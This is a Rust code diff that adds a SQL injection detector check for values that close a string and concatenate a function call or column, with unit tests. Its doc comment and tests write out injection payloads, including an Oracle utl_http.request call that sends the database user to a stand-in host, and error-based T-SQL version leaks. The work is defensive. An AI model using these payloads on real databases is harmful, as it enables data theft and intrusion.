@@ -1170,6 +1170,47 @@ fn joins_true(v: &str) -> bool {
     })
 }
 
+/// Whether the value closes a string and concatenates something other than
+/// another string to it: `||` then a name, a call or a parenthesis (`'||
+/// utl_http.request('http://x.example/'||user) || '`, `'||password||'`),
+/// or T-SQL's `+` then a call or a parenthesis (`x'+convert(int,@@version)+'`).
+/// How an injection into a string runs a function (out-of-band requests,
+/// errors that carry data) or copies a column into the value the
+/// application stores and shows. The model scored the first 0.0005 (a URL
+/// inside the call: the same with `'x'`, 1.0), `'||user||'` 0.19.
+fn concatenates_to_a_string(v: &str) -> bool {
+    let b = v.as_bytes();
+    let skip_ws = |mut i: usize| {
+        while b.get(i).is_some_and(u8::is_ascii_whitespace) {
+            i += 1;
+        }
+        i
+    };
+    let name_start = |c: u8| c.is_ascii_alphabetic() || c == b'_' || c == b'@';
+    // A call: a name (a path of names), then `(`.
+    let call_at = |i: usize| {
+        let end = i + b[i..]
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'$'))
+            .count();
+        end > i && name_start(b[i]) && b.get(skip_ws(end)) == Some(&b'(')
+    };
+    memchr::memchr2_iter(b'\'', b'"', b).any(|q| {
+        let i = skip_ws(q + 1);
+        match b.get(i..i + 2) {
+            Some(b"||") => {
+                let j = skip_ws(i + 2);
+                b.get(j).is_some_and(|&c| name_start(c) || c == b'(')
+            }
+            Some([b'+', _]) => {
+                let j = skip_ws(i + 1);
+                b.get(j) == Some(&b'(') || call_at(j)
+            }
+            _ => false,
+        }
+    })
+}
+
 /// Whether the value joins, with `OR`, `AND`, `XOR`, `||` or `&&`, a
 /// pattern match of a column with a string (`x' OR full_name LIKE '%Bob%`,
 /// `' and pass REGEXP '^a`): how an injection reads a table a character at
@@ -1673,6 +1714,7 @@ impl SqliDetector {
                 || stacks_a_statement(value)
                 || joins_a_tautology(value)
                 || joins_true(value)
+                || concatenates_to_a_string(value)
                 || joins_a_pattern_match(value)
                 || literal_then_comment(value));
         let lowered = score >= sql_grammar::CERTAIN && prose_the_model_misreads(value);
@@ -2448,6 +2490,37 @@ mod tests {
         for v in ["'hi' or 'x'='x';", "\"a\" or \"b\"=\"b\"", " OR x=x"] {
             assert_raised_and_confirmed(v);
         }
+    }
+
+    #[test]
+    fn concatenation_to_a_closed_string() {
+        for v in [
+            "' || utl_http.request('http://x.example/'||user) || '",
+            "'||user||'",
+            "x' ||(select 1)|| '",
+            "x'+convert(int,@@version)+'",
+            "' + db.schema.f (1) + '",
+            "\"||@@version||\"",
+        ] {
+            assert!(concatenates_to_a_string(v), "{v}");
+        }
+        for v in [
+            "it's 'a'||'b'",
+            "x = y || 'default'",
+            "Tom's || Jerry's",
+            "'+ 5",
+            "'hi' + x",
+            "a || b",
+            "'|| 2",
+        ] {
+            assert!(!concatenates_to_a_string(v), "{v}");
+        }
+        assert_raised_and_confirmed("' || utl_http.request('http://x.example/'||user) || '");
+        assert_raised_and_confirmed("'||user||'");
+        // Raised, then judged by the grammar: prose around it is no query.
+        let (sqli, _) = builtin();
+        let prose = "say 'hi' + (wave) to everyone";
+        assert!(!sqli.confirm(prose, sqli.score(prose)), "{prose}");
     }
 
     #[test]
